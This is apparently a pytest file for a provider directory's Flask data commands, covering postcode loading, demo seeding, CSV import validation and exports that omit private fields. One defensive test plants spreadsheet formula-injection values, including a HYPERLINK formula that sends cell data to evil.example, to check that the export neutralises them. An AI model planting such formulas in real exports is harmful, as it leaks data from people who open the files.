"""The flask data commands, run as an operator would, against the real database."""
import csv
import json

from sqlalchemy import text

from tests.factories import make_provider

HEADER = ["external_id", "name", "credentials", "practice_name", "provider_type", "modalities",
          "telehealth", "accepting_new_clients", "languages", "phone", "website", "bio",
          "street", "city", "region", "postcode", "country", "lat", "lon"]


def write_csv(path, rows, header=HEADER):
    with open(path, "w", newline="") as fh:
        writer = csv.DictWriter(fh, header)
        writer.writeheader()
        for row in rows:
            writer.writerow(row)
    return str(path)


def good_row(n, **overrides):
    row = {"external_id": f"ext-{n}", "name": f"Dr. Import {n}", "provider_type": "psychiatrist",
           "modalities": "ketamine-infusion;esketamine", "telehealth": "yes",
           "languages": "en;es", "phone": "303-555-0100 x12", "website": "example.com",
           "city": "Denver", "region": "CO", "postcode": "80202", "country": "US"}
    row.update(overrides)
    return row


def count(session, where="TRUE", **params):
    return session.scalar(text(f"SELECT count(*) FROM providers WHERE {where}"), params)


def test_every_command_has_help(runner):
    for args in (["db"], ["postcodes", "load"], ["demo", "seed"], ["providers", "import"],
                 ["providers", "export"]):
        result = runner.invoke(args=[*args, "--help"])
        assert result.exit_code == 0, result.output
        assert "Usage" in result.output


def test_db_upgrade_is_a_no_op_at_head(runner):
    result = runner.invoke(args=["db", "upgrade"])
    assert result.exit_code == 0
    assert "newest revision" in result.output


def test_postcodes_load_reads_geonames_files(runner, session):
    session.execute(text("DELETE FROM postcodes WHERE country = 'AD'"))
    result = runner.invoke(args=["postcodes", "load", "AD"])
    assert result.exit_code == 0, result.output
    assert "loaded" in result.output
    row = session.execute(text(
        "SELECT place, ST_Y(location::geometry) AS lat FROM postcodes "
        "WHERE country = 'AD' AND code = 'AD200'")).one()
    assert row.place == "Encamp" and round(row.lat, 2) == 42.53
    assert session.scalar(text("SELECT count(*) FROM places WHERE country = 'AD'")) >= 3


def test_postcodes_load_leaves_the_planner_statistics_of_what_it_wrote(runner, session):
    counts = text("SELECT relname, analyze_count FROM pg_stat_user_tables "
                  "WHERE relname IN ('postcodes', 'places', 'place_aliases', 'regions')")
    before = dict(session.execute(counts).all())
    session.commit()   # the statistics views show other sessions' work in a new snapshot
    result = runner.invoke(args=["postcodes", "load", "AD"])
    assert result.exit_code == 0, result.output
    session.execute(text("SELECT pg_stat_clear_snapshot()"))
    after = dict(session.execute(counts).all())
    assert all(after[t] > before[t] for t in before), (before, after)


def test_postcodes_load_missing_only_skips_loaded_countries(runner):
    result = runner.invoke(args=["postcodes", "load", "US", "--missing-only"])
    assert result.exit_code == 0
    assert "already loaded" in result.output


def test_postcodes_load_refuses_unknown_countries(runner):
    result = runner.invoke(args=["postcodes", "load", "XX"])
    assert result.exit_code != 0
    assert "XX" in result.output


def test_demo_seed_places_demo_providers_on_loaded_postcodes(runner, session):
    session.execute(text("DELETE FROM providers WHERE source = 'demo'"))
    result = runner.invoke(args=["demo", "seed", "--count", "300"])
    assert result.exit_code == 0, result.output
    assert count(session, "source = 'demo' AND status = 'approved'") == 300
    assert count(session, "source = 'demo' AND name LIKE '%(demo)%'") == 300
    # Every demo provider lies within a few km of a loaded postcode centroid.
    far = session.scalar(text(
        "SELECT count(*) FROM providers p WHERE source = 'demo' AND NOT EXISTS ("
        "SELECT 1 FROM postcodes c WHERE ST_DWithin(c.location, p.location, 3500))"))
    assert far == 0
    mixed = session.execute(text(
        "SELECT count(DISTINCT provider_type), count(DISTINCT telehealth) FROM providers "
        "WHERE source = 'demo'")).one()
    assert mixed == (7, 2)


def test_demo_seed_keeps_existing_unless_replaced(runner, session):
    session.execute(text("DELETE FROM providers WHERE source = 'demo'"))
    runner.invoke(args=["demo", "seed", "--count", "20"])
    again = runner.invoke(args=["demo", "seed", "--count", "50"])
    assert "already present" in again.output
    assert count(session, "source = 'demo'") == 20
    runner.invoke(args=["demo", "seed", "--count", "50", "--replace"])
    assert count(session, "source = 'demo'") == 50


def test_import_reports_bad_rows_by_line_and_loads_the_rest(runner, session, tmp_path):
    rows = [good_row(1),
            good_row(2, provider_type="wizard"),
            good_row(3, modalities="ketamine-infusion;ayahuasca"),
            good_row(4, postcode="00000"),
            good_row(5, lat="95", lon="10"),
            good_row(6, name=""),
            good_row(7, website="ftp://x"),
            good_row(8, languages="english"),
            good_row(1, name="duplicate id"),
            good_row(9, lat="39.75", lon="-104.99", postcode="")]
    result = runner.invoke(args=["providers", "import", write_csv(tmp_path / "p.csv", rows)])
    assert result.exit_code == 0, result.output
    out = result.output
    assert "line 3: provider_type must be one of the known provider types" in out
    assert "line 4: modalities has the unknown modality 'ayahuasca'" in out
    assert "line 5: postcode '00000' was not found in US" in out
    assert "line 6: lat/lon must be a number between -90 and 90" in out
    assert "line 7: name is required" in out
    assert "line 8: website must be a web address" in out
    assert "line 9: languages: 'english' is not a language code we know; use ISO 639-1" in out
    assert "line 10: external_id 'ext-1' repeats line 2" in out
    assert "read 10 rows: 2 added, 0 updated, 0 unchanged, 8 rejected" in out
    placed = session.execute(text(
        "SELECT location_precision, modalities, telehealth, phone, website, status FROM providers "
        "WHERE source = 'import' AND external_id = 'ext-1'")).one()
    assert placed == ("postcode", ["ketamine-infusion", "esketamine"], True,
                      "+13035550100;ext=12", "https://example.com", "approved")
    assert session.scalar(text("SELECT location_precision FROM providers WHERE "
                               "external_id = 'ext-9'")) == "exact"


def test_import_again_updates_instead_of_duplicating(runner, session, tmp_path):
    path = write_csv(tmp_path / "p.csv", [good_row(1), good_row(2)])
    runner.invoke(args=["providers", "import", path])
    again = runner.invoke(args=["providers", "import", path])
    assert "0 added, 0 updated, 2 unchanged" in again.output
    changed = write_csv(tmp_path / "q.csv", [good_row(1, name="Dr. Renamed"), good_row(2)])
    third = runner.invoke(args=["providers", "import", changed])
    assert "0 added, 1 updated, 1 unchanged" in third.output
    assert count(session, "source = 'import'") == 2
    assert count(session, "name = 'Dr. Renamed'") == 1


def test_import_refuses_a_file_without_required_columns(runner, tmp_path):
    path = write_csv(tmp_path / "p.csv", [{"name": "x"}], header=["name"])
    result = runner.invoke(args=["providers", "import", path])
    assert result.exit_code != 0
    assert "external_id" in result.output


def test_export_gives_approved_providers_and_public_fields_only(runner, session, tmp_path):
    session.execute(text("UPDATE providers SET status = 'withdrawn' WHERE status = 'approved'"))
    shown = make_provider(session, name="Visible Clinic", email="secret@example.com",
                          license_number="LIC-SECRET-1")
    make_provider(session, name="Pending Clinic", status="pending")
    make_provider(session, name="Rejected Clinic", status="rejected")
    out = tmp_path / "out.csv"
    result = runner.invoke(args=["providers", "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with open(out) as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["Visible Clinic"]
    assert rows[0]["id"] == str(shown)
    text_out = out.read_text()
    assert "secret@example.com" not in text_out and "LIC-SECRET" not in text_out

    result = runner.invoke(args=["providers", "export", "--format", "geojson"])
    collection = json.loads(result.output)
    assert collection["type"] == "FeatureCollection"
    assert [f["properties"]["name"] for f in collection["features"]] == ["Visible Clinic"]
    assert "secret@example.com" not in result.output


def test_exported_csv_imports_back(runner, session, tmp_path):
    session.execute(text("UPDATE providers SET status = 'withdrawn' WHERE status = 'approved'"))
    make_provider(session, name="Round Trip", modalities=["psilocybin", "integration"])
    out = tmp_path / "out.csv"
    runner.invoke(args=["providers", "export", "-o", str(out)])
    result = runner.invoke(args=["providers", "import", str(out), "--source", "copy"])
    assert "1 added" in result.output, result.output
    assert count(session, "source = 'copy' AND name = 'Round Trip'") == 1


def test_export_neutralises_cells_a_spreadsheet_would_run(runner, session, tmp_path):
    session.execute(text("UPDATE providers SET status = 'withdrawn' WHERE status = 'approved'"))
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    make_provider(session, name=formula, credentials="+SUM(1)", practice_name="-2+3",
                  bio="@cmd", city="\tTab", phone="+1 303-555-0100")
    out = tmp_path / "out.csv"
    assert runner.invoke(args=["providers", "export", "-o", str(out)]).exit_code == 0
    with open(out) as fh:
        row = next(csv.DictReader(fh))
    assert row["name"] == "'" + formula
    assert (row["credentials"], row["practice_name"], row["bio"], row["city"]) == (
        "'+SUM(1)", "'-2+3", "'@cmd", "'\tTab")
    assert row["phone"] == "'+1 303-555-0100"
    assert row["lon"].startswith("-")          # numbers the export writes stay numbers
    result = runner.invoke(args=["providers", "import", str(out), "--source", "copy"])
    assert "1 added" in result.output, result.output
    # A valid number for the row's country comes back in E.164.
    assert count(session, "source = 'copy' AND phone = '+13035550100' "
                          "AND name LIKE '=HYPERLINK%'") == 1
